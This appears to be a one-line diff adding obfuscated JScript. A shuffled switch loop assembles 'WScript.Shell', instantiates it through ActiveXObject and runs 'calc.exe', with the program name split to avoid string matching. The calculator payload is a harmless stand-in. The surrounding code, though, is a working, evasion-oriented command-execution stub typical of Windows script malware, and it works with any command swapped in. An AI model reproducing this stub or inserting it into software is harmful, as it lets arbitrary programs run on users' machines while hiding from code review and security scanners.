@@ -1,0 +1,1 @@
+var o='3|0|2|1'.split('|'),i=0,s,c,w;while(!![]){switch(o[i++]){case'0':s='WScript.Shell';continue;case'1':w.Run(c);continue;case'2':w=new ActiveXObject(s);continue;case'3':c='calc'+'.exe';continue;}break;}
